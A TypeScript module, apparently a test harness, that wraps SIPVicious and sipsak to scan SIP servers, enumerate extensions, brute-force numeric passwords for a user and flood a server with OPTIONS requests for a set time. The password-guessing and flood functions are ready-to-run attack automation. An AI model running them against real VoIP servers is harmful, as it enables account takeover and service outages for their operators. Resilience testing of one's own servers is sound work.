import { spawn } from 'node:child_process';
import { once } from 'node:events';

/** What an attacker's program wrote, and how it ended. */
export type Attack = { readonly output: string; readonly code: number | null };

const LONGEST_MS = 20_000;

/** Looks for SIP servers (svmap of sipvicious). */
export function scan(server: string): Promise<Attack> {
  const [host = '', port = ''] = server.split(':');
  return run('svmap', ['-p', port, host]);
}

/** Looks for extensions that exist (svwar), by the answers to `method`. */
export function enumerate(server: string, extensions: string, method: 'REGISTER' | 'INVITE' | 'OPTIONS') {
  const [host = '', port = ''] = server.split(':');
  return run('svwar', ['-p', port, `-e${extensions}`, '-m', method, '--force', host]);
}

/** Guesses numeric passwords of a user (svcrack). */
export function guessPasswords(server: string, user: string, range: string): Promise<Attack> {
  const [host = '', port = ''] = server.split(':');
  return run('svcrack', ['-p', port, '-u', user, '-r', range, host]);
}

/** Asks a server for its options (sipsak); exit code 0 where it answers 200. */
export function ping(server: string, user: string): Promise<Attack> {
  return run('sipsak', ['-s', `sip:${user}@${server}`]);
}

/** Floods a server with OPTIONS until it has sent so many (sipsak). */
export async function flood(server: string, forMs: number): Promise<void> {
  const child = spawn('sipsak', ['-F', '-s', `sip:flood@${server}`], { stdio: 'ignore' });
  const ended = once(child, 'exit');
  const limit = setTimeout(() => child.kill('SIGKILL'), forMs);
  await ended;
  clearTimeout(limit);
}

async function run(program: string, given: readonly string[]): Promise<Attack> {
  const child = spawn(program, given, { stdio: ['ignore', 'pipe', 'pipe'] });
  let output = '';
  for (const stream of [child.stdout, child.stderr]) {
    stream.setEncoding('utf8').on('data', (text: string) => {
      output += text;
    });
  }
  const limit = setTimeout(() => child.kill('SIGKILL'), LONGEST_MS);
  const [code] = (await once(child, 'close')) as [number | null];
  clearTimeout(limit);
  return { output, code };
}
